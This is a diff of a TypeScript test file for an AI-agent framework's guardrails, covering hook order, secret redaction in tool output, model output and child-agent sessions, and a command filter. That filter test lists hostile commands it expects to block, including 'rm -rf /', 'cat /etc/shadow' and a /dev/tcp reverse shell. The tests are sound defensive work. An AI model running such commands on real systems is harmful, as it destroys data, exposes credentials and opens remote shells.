@@ -1,4 +1,5 @@
-import { AgentError, defineTool, type Hooks, isAgentError, type Tool } from "@loopwright/core";
+import { AgentError, agentTool, createAgent, defineTool, type Hooks, isAgentError, type Tool } from "@loopwright/core";
+import { scripted } from "@loopwright/core/memory";
 import { describe, expect, it } from "vitest";
 import {
   auditHooks,
@@ -9,7 +10,7 @@ import {
   progressHooks,
   skillGuardrailHooks,
 } from "../src/index.ts";
-import { sessionWith } from "./harness.ts";
+import { scope, sessionWith } from "./harness.ts";
 import { samples } from "./samples.ts";
 
 const object = { type: "object" } as const;
@@ -21,21 +22,31 @@ const call = (args = {}, name = "fetch") => ({ calls: [{ name, args }] });
 describe("C56: the five groups of hooks", () => {
   it("C56: are asked in the order logging, audit, progress, guardrails, guardrails of skills, around model and tool", async () => {
     const trace: string[] = [];
-    const traced = (name: string, hooks: Hooks): Hooks => ({
+    const traced = <T>(step: string, ask: () => T): T => {
+      trace.push(step);
+      return ask();
+    };
+    const tracedSet = (name: string, hooks: Hooks): Hooks => ({
       ...hooks,
       name,
-      prepare: (context) => (trace.push(`prepare ${name}`), hooks.prepare?.(context)),
-      decide: (context) => (trace.push(`decide ${name}`), hooks.decide?.(context)),
-      gate: (context) => (trace.push(`gate ${name}`), hooks.gate?.(context)),
-      review: (context) => (trace.push(`review ${name}`), hooks.review?.(context)),
+      prepare: (context) => traced(`prepare ${name}`, () => hooks.prepare?.(context)),
+      decide: (context) => traced(`decide ${name}`, () => hooks.decide?.(context)),
+      gate: (context) => traced(`gate ${name}`, () => hooks.gate?.(context)),
+      review: (context) => traced(`review ${name}`, () => hooks.review?.(context)),
     });
     const steps: string[] = [];
     const hooks = hookGroups({
-      skillGuardrails: traced("skills", skillGuardrailHooks({ demo: { denyCommands: [{ pattern: "never" }] } })),
-      guardrails: traced("guardrails", createGuardrails().hooks),
-      progress: traced("progress", progressHooks(({ phase }) => void steps.push(phase))),
-      audit: traced("audit", auditHooks(({ action, user }) => void steps.push(`${action} ${user}`))),
-      logging: traced("logging", loggingHooks()),
+      skillGuardrails: tracedSet("skills", skillGuardrailHooks({ demo: { denyCommands: [{ pattern: "never" }] } })),
+      guardrails: tracedSet("guardrails", createGuardrails().hooks),
+      progress: tracedSet(
+        "progress",
+        progressHooks(({ phase }) => void steps.push(phase)),
+      ),
+      audit: tracedSet(
+        "audit",
+        auditHooks(({ action, user }) => void steps.push(`${action} ${user}`)),
+      ),
+      logging: tracedSet("logging", loggingHooks()),
     });
     const { say } = sessionWith([call(), { text: "Done." }], { hooks, tools: [toolThatGives("ok")] });
     await say("Go.");
@@ -116,6 +127,24 @@ describe("a secret in what a tool gives", () => {
     expect((await one.verdicts()).join()).toMatch(/review fail, output A guardrail blocked/);
   });
 
+  it("is redacted in the sessions of children, which inherit the guardrails", async () => {
+    const secret = String(samples["github"]);
+    const helper = createAgent({
+      name: "helper",
+      provider: scripted([call(), (request) => ({ text: JSON.stringify(request.messages.at(-1)) })]),
+      tools: [toolThatGives(`the key ${secret}`)],
+    });
+    const one = sessionWith([{ calls: [{ name: "helper", args: { task: "Look." } }] }, { text: "ok" }], {
+      hooks: guarded({ version: 1 }),
+      tools: [agentTool({ agent: helper })],
+    });
+    await one.say("Go.");
+    const [child] = await one.store.index.list(scope, { parent: one.session.id });
+    const kept = JSON.stringify(await one.store.log.read({ scope, session: String(child?.id) }, { from: 1, limit: 1_000 }));
+    expect(kept).toContain("the key [redacted:github]");
+    expect(kept + (await one.everything())).not.toContain(secret);
+  });
+
   it("is left alone for an exempt tool, and not for another one", async () => {
     const secret = String(samples["github"]);
     const one = sessionWith([{ calls: [{ name: "vault" }, { name: "fetch" }] }, { text: "ok" }], {
@@ -138,16 +167,13 @@ describe("a secret in what a tool gives", () => {
       const one = sessionWith([call(), { text: `It is ${secret}.` }], { hooks, tools: [toolThatGives(secret)] });
       const { text } = await one.say("Go.");
       expect(text).toBe(`It is ${secret}.`);
-      expect(await one.verdicts()).toEqual([
-        "review would_redact tool_output of fetch: github",
-        "decide would_redact output: github",
-      ]);
+      expect(await one.verdicts()).toEqual(["review would_redact tool_output of fetch: github", "decide would_redact output: github"]);
       expect(one.events.filter((event) => event.type === "verdict")).toHaveLength(2);
     }
   });
 });
 
-describe("a secret in what a model says", () => {
+describe("a secret in the output of a model", () => {
   it("split over deltas is never streamed, and other words are not held back", async () => {
     const secret = String(samples["anthropic"]);
     for (const chunkSize of [1, 7, 50]) {
@@ -186,7 +212,10 @@ describe("a secret in what a model says", () => {
     const secret = String(samples["slack"]);
     const got: unknown[] = [];
     const tool = defineTool({ name: "fetch", description: "x", parameters: object, execute: (args) => String(got.push(args)) });
-    const redacting = sessionWith([call({ url: `https://x.example/?k=${secret}` }), { text: "ok" }], { hooks: guarded({ version: 1 }), tools: [tool] });
+    const redacting = sessionWith([call({ url: `https://x.example/?k=${secret}` }), { text: "ok" }], {
+      hooks: guarded({ version: 1 }),
+      tools: [tool],
+    });
     await redacting.say("Go.");
     expect(JSON.stringify(got)).toContain("[redacted:slack]");
     expect(await redacting.verdicts()).toEqual(["gate redact tool_call of fetch: slack"]);
@@ -290,7 +319,17 @@ describe("a check of commands", () => {
   it("refuses a call whose arguments chain, substitute or destroy, and lets others pass", async () => {
     const { check } = createGuardrails({ policy: { version: 1, secrets: false, commands: {} } });
     const place = { gate: "tool_call", tool: "cli_execute" } as const;
-    for (const text of ["ls; id", "$(id)", "`id`", "a && b", "a | b", "x > /tmp/x", "rm -rf /", "cat /etc/shadow", "bash -i >& /dev/tcp/1.2.3.4/9"])
+    for (const text of [
+      "ls; id",
+      "$(id)",
+      "`id`",
+      "a && b",
+      "a | b",
+      "x > /tmp/x",
+      "rm -rf /",
+      "cat /etc/shadow",
+      "bash -i >& /dev/tcp/1.2.3.4/9",
+    ])
       expect([text, (await check(text, place)).length > 0]).toEqual([text, true]);
     for (const text of ["ls -la", "a.txt", "grep -n tulip src/main.ts", "2 > 1 is true", "cost: 5$"])
       expect([text, await check(text, place)]).toEqual([text, []]);
